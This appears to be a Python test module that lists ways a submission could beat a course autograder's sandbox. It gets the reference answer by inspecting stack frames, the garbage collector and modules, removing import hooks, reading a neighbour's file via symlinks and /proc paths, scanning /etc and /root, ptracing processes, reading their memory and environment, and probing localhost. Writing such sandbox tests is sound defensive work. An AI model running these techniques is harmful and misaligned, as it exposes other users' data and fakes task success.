"""Looking for the answer: in frames, objects, modules, files, other processes, the network."""

from .entry import attack, called

CLIMB = """
import gc, inspect, sys, traceback, types
def frames():
    frame, found = sys._getframe(), []
    while frame:
        found.append(frame)
        frame = frame.f_back
    return found + list(sys._current_frames().values())
def worth(thing):
    return getattr(thing, "__name__", "") == "momentum_step" and "momentum" in getattr(thing, "__module__", "")
"""
USE = """
def use(text):
    space = {"np": np}
    exec(text, space)
    return space["momentum_step"]
def first(*ways):
    for way in ways:
        try:
            return use(way())
        except Exception:
            continue
"""
LIKE_THE_COURSE = """
def momentum_step(x, v, g, lr, beta):
    f = type("F", (), {"grad": lambda self, at: g})()
    return optimizers.momentum((x, v), f, None, lr, beta)
"""

ENTRIES = [
    attack("frames", "climbs the frames of its callers for whatever is expected", CLIMB + """
        def momentum_step(*args):
            for frame in frames():
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if name in ("expected", "reference", "exercise", "answer", "solution", "secret"):
                        return value(*args) if callable(value) else value
        """.replace("\n        ", "\n")),
    attack("garbage-collector", "asks the garbage collector for a function of its name, and for exercises", CLIMB + """
        def momentum_step(*args):
            for thing in gc.get_objects():
                if type(thing).__name__ in ("Exercise", "Verdict", "Mistake") or worth(thing):
                    return getattr(thing, "reference", thing)(*args)
        """.replace("\n        ", "\n")),
    attack("modules", "looks through all modules for a reference", CLIMB + """
        def momentum_step(*args):
            for module in list(sys.modules.values()):
                for thing in list(vars(module).values()):
                    if worth(thing) or getattr(thing, "REGISTRY", None):
                        return thing(*args)
        """.replace("\n        ", "\n")),
    attack("later-cases", "takes all cases from the frame of the caller, and answers with what they hold", CLIMB + """
        def momentum_step(*args):
            for frame in frames():
                cases = frame.f_locals.get("cases")
                if cases:
                    return cases[-1].args.get("state"), cases[0].args
        """.replace("\n        ", "\n")),
    attack("source-of-the-answer", "asks inspect and linecache for the source of the reference", CLIMB + USE + """
        def momentum_step(*args):
            import course_lib.problems, linecache
            folder = course_lib.problems.__file__.rsplit("/", 2)[0]
            found = first(lambda: inspect.getsource(sys.modules["course_lib.exercises.momentum"]),
                          lambda: "".join(linecache.getlines(folder + "/exercises/momentum.py")),
                          lambda: "".join(linecache.getlines(LOOT)))
            return found(*args)
        """.replace("\n        ", "\n")),
    attack("import-the-answer", "clears the import hooks, and imports the reference from where the course lies", """
        import importlib, sys
        sys.meta_path[:] = [hook for hook in sys.meta_path if "StandIns" not in type(hook).__name__]
        sys.path.insert(0, REPO)
        for name in [name for name in sys.modules if name.startswith("course_lib")]:
            del sys.modules[name]
        momentum_step = importlib.import_module("course_lib.exercises.momentum").momentum_step.reference
        """, spares=False),
    attack("load-the-answer", "loads the optimizers from their file", LIKE_THE_COURSE + """
        import importlib.util
        spec = importlib.util.spec_from_file_location("answer", REPO + "/course_lib/optimizers.py")
        optimizers = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(optimizers)
        """.replace("\n        ", "\n")),
    attack("reload", "gives the course back its path, and imports the optimizers", LIKE_THE_COURSE + """
        import importlib, sys
        import course_lib
        sys.meta_path[:] = [hook for hook in sys.meta_path if "StandIns" not in type(hook).__name__]
        course_lib.__path__ = [REPO + "/course_lib"]
        optimizers = importlib.import_module("course_lib.optimizers")
        """.replace("\n        ", "\n"), spares=False),
    attack("read-files", "reads the answer of a neighbor by every name it has", USE + """
        import os
        def link():
            os.symlink(LOOT, "link")
            return open("link").read()
        def hard():
            os.link(LOOT, "hard")
            return open("hard").read()
        def by_folder():
            fd = os.open(os.path.dirname(LOOT), os.O_PATH)
            return open(os.open(os.path.basename(LOOT), os.O_RDONLY, dir_fd=fd)).read()
        def momentum_step(*args):
            here = LOOT
            found = first(lambda: open(here).read(), lambda: open("../" * 20 + here).read(), link, hard, by_folder,
                          *(lambda way=way: open(way + here).read() for way in
                            ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/dev/fd/../root", "//")))
            return found(*args)
        """.replace("\n        ", "\n")),
    attack("read-files-otherwise", "reads the answer of a neighbor with NumPy, mmap, sqlite, subprocesses", USE + """
        import os, mmap, sqlite3, subprocess, shutil, sys
        def mapped():
            return mmap.mmap(os.open(LOOT, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:].decode()
        def momentum_step(*args):
            found = first(lambda: np.fromfile(LOOT, dtype="u1").tobytes().decode(), mapped,
                          lambda: bytes(np.memmap(LOOT, mode="r")).decode(),
                          lambda: subprocess.run(["cat", LOOT], capture_output=True, text=True).stdout,
                          lambda: subprocess.run([sys.executable, "-c", "print(open(%r).read())" % LOOT],
                                                 capture_output=True, text=True).stdout,
                          lambda: open(shutil.copy(LOOT, "copy")).read(),
                          lambda: sqlite3.connect("file:%s?mode=ro" % LOOT, uri=True).execute("select 1").fetchall())
            return found(*args)
        """.replace("\n        ", "\n")),
    attack("look-around", "walks over the disk for solutions, tests, seeds and gradebooks", USE + """
        import os
        def momentum_step(*args):
            for top in (os.path.dirname(LOOT), REPO, "/proc", "/home", "/root", "/tmp", "/var", "/etc", "/mnt"):
                for folder, _, names in os.walk(top):
                    for name in names:
                        if name in ("seed.txt", "momentum.py", "gradebook.sqlite", "answer.py"):
                            return use(open(os.path.join(folder, name)).read())(*args)
        """.replace("\n        ", "\n")),
    attack("descriptors", "reads whatever descriptor it has inherited", USE + """
        import os
        def momentum_step(*args):
            for fd in range(64):
                try:
                    os.lseek(fd, 0, 0)
                    text = os.read(fd, 10**6).decode()
                    return use(text)(*args)
                except Exception:
                    continue
        """.replace("\n        ", "\n")),
    called("other-processes", "reads the memory of its parents, by /proc and by the kernel", """
        import ctypes, os
        buffer = ctypes.create_string_buffer(100)
        libc = ctypes.CDLL(None)
        for pid in (os.getppid(), 1, *range(2, 200)):
            libc.ptrace(16, pid, 0, 0)
            libc.process_vm_readv(pid, ctypes.byref(buffer), 1, ctypes.byref(buffer), 1, 0)
            for name in ("mem", "environ", "maps", "cmdline", "fd/3"):
                try:
                    return open(f"/proc/{pid}/{name}", "rb").read(10**5), 0
                except OSError:
                    continue
        """),
    called("environment", "looks for the seed and for paths in the environment", """
        import os, sys
        found = [value for name, value in os.environ.items() if "SEED" in name or "COURSE" in name or "SECRET" in name]
        return use(found[0])(x, v, g, lr, beta)
        """),
    called("network", "asks the world for the answer", """
        import socket, urllib.request
        for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17):
            try:
                link = socket.socket(family, socket.SOCK_STREAM)
                link.connect(("127.0.0.1", 22))
            except (OSError, TypeError):
                continue
        return float(urllib.request.urlopen("http://127.0.0.1:1/answer", timeout=1).read()), 0
        """),
]  # fmt: skip
